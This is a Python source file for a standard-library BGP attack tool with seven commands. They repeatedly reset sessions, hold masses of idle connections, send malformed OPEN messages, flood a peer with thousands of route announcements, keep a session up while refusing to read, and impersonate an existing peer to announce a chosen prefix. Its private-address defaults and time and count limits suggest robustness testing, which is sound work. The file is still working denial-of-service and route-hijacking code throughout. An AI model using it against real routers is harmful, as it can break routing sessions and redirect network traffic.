"""bgp.py - a BGP speaker of octets, for attacks: standard library only, bounded in time and count.

It is no peer of anybody: it says what it is told to say. What always holds: each command ends by itself, after
--seconds or --count, whatever the other end does, and its last line is one JSON object that says what it did.

    bgp.py resets    connects, OPEN, NOTIFICATION, and again
    bgp.py connects  connects and says nothing, so many at a time
    bgp.py bad-open  connects and sends an OPEN that no one takes, and again
    bgp.py silent    connects, OPEN, and then never a word
    bgp.py flood     a session, and --prefixes routes in it
    bgp.py deaf      a session that reads nothing once it is up
    bgp.py takeover  calls as somebody who has a session already
"""

import argparse
import errno
import ipaddress
import json
import resource
import select
import socket
import struct
import sys
import time

OPEN, UPDATE, NOTIFICATION, KEEPALIVE = 1, 2, 3, 4
MARKER = b"\xff" * 16


def message(kind, body=b""):
    return MARKER + struct.pack("!HB", 19 + len(body), kind) + body


def capability(code, value=b""):
    return bytes((code, len(value))) + value


def open_message(asn, router_id, hold=90, families=(1,), restart=None, restart_families=None, version=4, extra=b""):
    """OPEN; `restart` is the graceful restart time with R set, or None for no such capability."""
    caps = capability(2) + capability(65, struct.pack("!I", asn)) + extra
    for afi in families:
        caps += capability(1, struct.pack("!HBB", afi, 0, 1))
    if restart is not None:
        listed = families if restart_families is None else restart_families
        value = struct.pack("!H", 0x8000 | restart)
        caps += capability(64, value + b"".join(struct.pack("!HBB", afi, 1, 0x80) for afi in listed))
    short = asn if asn < 65536 else 23456
    parameters = bytes((2, len(caps))) + caps
    head = struct.pack("!BHH4sB", version, short, hold, socket.inet_aton(router_id), len(parameters))
    return message(OPEN, head + parameters)


def octets(prefix):
    net = ipaddress.ip_network(prefix)
    return bytes((net.prefixlen,)) + net.network_address.packed[: (net.prefixlen + 7) // 8]


def attribute(flags, code, value):
    if len(value) > 255:
        return bytes((flags | 0x10, code)) + struct.pack("!H", len(value)) + value
    return bytes((flags, code, len(value))) + value


def update(prefixes, next_hop, path, local_pref=None):
    """An UPDATE that announces `prefixes`, all of one family: `path` is a list of AS numbers."""
    segment = bytes((2, len(path))) + b"".join(struct.pack("!I", asn) for asn in path) if path else b""
    attributes = attribute(0x40, 1, b"\0") + attribute(0x40, 2, segment)
    if local_pref is not None:
        attributes += attribute(0x40, 5, struct.pack("!I", local_pref))
    nlri = b"".join(octets(prefix) for prefix in prefixes)
    hop = ipaddress.ip_address(next_hop).packed
    if ":" in prefixes[0]:
        reach = struct.pack("!HBB", 2, 1, len(hop)) + hop + b"\0" + nlri
        attributes += attribute(0x80, 14, reach)
        nlri = b""
    else:
        attributes += attribute(0x40, 3, hop)
    return message(UPDATE, b"\0\0" + struct.pack("!H", len(attributes)) + attributes + nlri)


END_OF_RIB = message(UPDATE, b"\0\0\0\0")


def cease(subcode):
    return message(NOTIFICATION, bytes((6, subcode)))


class Stream:
    """A connection and the messages in it."""

    def __init__(self, sock):
        self.sock, self.buffer = sock, b""

    @classmethod
    def dial(cls, source, target, port, timeout=2.0, ttl=None):
        family = socket.AF_INET6 if ":" in target else socket.AF_INET
        sock = socket.socket(family, socket.SOCK_STREAM)
        sock.settimeout(timeout)
        if ttl is not None:
            set_ttl(sock, ttl)
        if source:
            sock.bind((source, 0))
        try:
            sock.connect((target, port))
        except OSError:
            sock.close()
            raise
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        return cls(sock)

    def send(self, data):
        self.sock.sendall(data)

    def read(self, timeout):
        """(kind, body), or None where nothing came in time; EOFError at the end."""
        deadline = time.monotonic() + timeout
        while True:
            if len(self.buffer) >= 19:
                length, kind = struct.unpack("!HB", self.buffer[16:19])
                if len(self.buffer) >= length:
                    body, self.buffer = self.buffer[19:length], self.buffer[length:]
                    return kind, body
            left = deadline - time.monotonic()
            if left <= 0 or not select.select([self.sock], [], [], left)[0]:
                return None
            data = self.sock.recv(65536)
            if not data:
                raise EOFError
            self.buffer += data

    def close(self):
        self.sock.close()

    def reset(self):
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        self.sock.close()


def set_ttl(sock, ttl):
    if sock.family == socket.AF_INET6:
        sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_UNICAST_HOPS, ttl)
    else:
        sock.setsockopt(socket.IPPROTO_IP, socket.IP_TTL, ttl)


def session(stream, hello, timeout=5.0):
    """OPEN, OPEN, KEEPALIVE, KEEPALIVE; how far it got: "established", or the message that ended it."""
    deadline = time.monotonic() + timeout
    stream.send(hello)
    while time.monotonic() < deadline:
        got = stream.read(deadline - time.monotonic())
        if got is None:
            break
        kind, body = got
        if kind == NOTIFICATION:
            return f"refused with {body[0]}/{body[1]}"
        if kind == OPEN:
            stream.send(message(KEEPALIVE))
        if kind == KEEPALIVE:
            return "established"
    return "unanswered"


class Pace:
    """So many a second, until the time or the count is used up."""

    def __init__(self, args):
        self.end = time.monotonic() + args.seconds
        self.left, self.interval, self.next = args.count, 1.0 / args.rate, time.monotonic()

    def __iter__(self):
        while self.left > 0 and time.monotonic() < self.end:
            self.left -= 1
            yield
            self.next += self.interval
            wait = min(self.next, self.end) - time.monotonic()
            if wait > 0:
                time.sleep(wait)


def hello(args, **more):
    families = [int(afi) for afi in args.families.split(",") if afi]
    return open_message(args.asn, args.router_id, args.hold, families, **more)


def repeat(args, act, counts=None):
    """act(stream) on one connection after the other; what came of each is counted."""
    counts = {} if counts is None else counts
    for _ in Pace(args):
        try:
            stream = Stream.dial(args.source, args.target, args.port)
            try:
                outcome = act(stream)
            finally:
                stream.close()
        except EOFError:
            outcome = "closed"
        except OSError as error:
            outcome = errno.errorcode.get(error.errno, "timeout")
        counts[outcome] = counts.get(outcome, 0) + 1
    return counts


def resets(args):
    def act(stream):
        stream.send(hello(args))
        stream.send(cease(4))
        return "reset"

    return repeat(args, act)


def bad_open(args):
    def act(stream):
        stream.send(open_message(args.asn, args.router_id, args.hold, version=3))
        while True:
            got = stream.read(1.0)
            if got is None:
                return "unanswered"
            if got[0] == NOTIFICATION:
                return f"refused with {got[1][0]}/{got[1][1]}"

    return repeat(args, act)


def connects(args):
    """Holds the last --held connections open until the end. With --sources each comes from another address."""
    held, counts, number = [], {}, 0
    resource.setrlimit(resource.RLIMIT_NOFILE, (args.held + 64,) * 2)
    words = hello(args) if args.command == "silent" else b""
    for _ in Pace(args):
        try:
            number += 1
            source = numbered(args.sources, 32, number).split("/")[0] if args.sources else args.source
            stream = Stream.dial(source, args.target, args.port, timeout=0.5)
            stream.send(words)
            held.append(stream)
            outcome = "connected"
        except OSError as error:
            outcome = errno.errorcode.get(error.errno, "timeout")
        counts[outcome] = counts.get(outcome, 0) + 1
        if len(held) > args.held:
            held.pop(0).close()
    for stream in held:
        stream.close()
    return counts


def numbered(net, length, number):
    """The number-th prefix of that length in `net`."""
    base = ipaddress.ip_network(net)
    size = 1 << (base.max_prefixlen - length)
    return f"{base.network_address + number * size}/{length}"


def talk(stream, seconds, reading=True):
    """Keeps the session up for so long; what came."""
    end, counts = time.monotonic() + seconds, {"messages": 0}
    due = 0.0
    while time.monotonic() < end:
        if time.monotonic() >= due:
            due = time.monotonic() + 1.0
            stream.send(message(KEEPALIVE))
        if not reading:
            time.sleep(0.2)
            continue
        got = stream.read(0.2)
        if got:
            counts["messages"] += 1
            if got[0] == NOTIFICATION:
                counts["ended"] = f"{got[1][0]}/{got[1][1]}"
                break
    return counts


def flood(args):
    stream = Stream.dial(args.source, args.target, args.port)
    result = {"session": session(stream, hello(args))}
    if args.command == "deaf":
        stream.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    stream.sock.settimeout(args.seconds)
    sent, started = 0, time.monotonic()
    try:
        while sent < args.prefixes and time.monotonic() - started < args.seconds:
            several = [numbered(args.net, args.length, sent + i) for i in range(min(500, args.prefixes - sent))]
            stream.send(update(several, args.next_hop or args.source, [args.asn]))
            sent += len(several)
        left = args.seconds - (time.monotonic() - started)
        result.update(talk(stream, left, reading=args.command != "deaf"))
    except (OSError, EOFError) as error:
        result["ended"] = type(error).__name__
    result["sent"] = sent
    stream.close()
    return result


def takeover(args):
    """A call in the name of one who has a session; where it gets one, it announces --net in it."""
    counts = {"announced": 0}

    def act(stream):
        restart = None if args.no_restart else 120
        listed = [] if args.no_families else None
        outcome = session(stream, hello(args, restart=restart, restart_families=listed), timeout=args.patience)
        if outcome == "established":
            path = [] if args.internal else [args.asn]
            pref = 100 if args.internal else None
            stream.send(update([args.net], args.next_hop or args.source, path, pref))
            counts["announced"] += 1
            talk(stream, 2.0)
        return outcome

    return repeat(args, act, counts)


COMMANDS = {
    "resets": resets, "bad-open": bad_open, "connects": connects, "silent": connects,
    "flood": flood, "deaf": flood, "takeover": takeover,
}


def arguments(commands):
    """What every attacker is told: a command, whom it calls from where, as whom, for how long."""
    parser = argparse.ArgumentParser()
    parser.add_argument("command", choices=commands)
    parser.add_argument("--source", default="")
    parser.add_argument("--target", required=True)
    parser.add_argument("--port", type=int, default=179)
    parser.add_argument("--asn", type=int, default=65003)
    parser.add_argument("--router-id", default="172.31.0.3")
    parser.add_argument("--hold", type=int, default=90)
    parser.add_argument("--seconds", type=float, default=5.0)
    parser.add_argument("--count", type=int, default=100000)
    parser.add_argument("--prefixes", type=int, default=10000)
    parser.add_argument("--next-hop", default="")
    return parser


def carry_out(commands, parser):
    """Does what the command line says; what it did is the last line."""
    args = parser.parse_args()
    json.dump(commands[args.command](args), sys.stdout)
    print()


def main():
    parser = arguments(COMMANDS)
    parser.add_argument("--families", default="1", help="AFIs: 1,2")
    parser.add_argument("--rate", type=float, default=100.0, help="a second")
    parser.add_argument("--net", default="10.66.0.0/16")
    parser.add_argument("--length", type=int, default=32)
    parser.add_argument("--no-restart", action="store_true")
    parser.add_argument("--no-families", action="store_true")
    parser.add_argument("--internal", action="store_true")
    parser.add_argument("--sources", default="", help="a network of IPv4 addresses to call from")
    parser.add_argument("--held", type=int, default=512)
    parser.add_argument("--patience", type=float, default=3.0)
    carry_out(COMMANDS, parser)


if __name__ == "__main__":
    main()
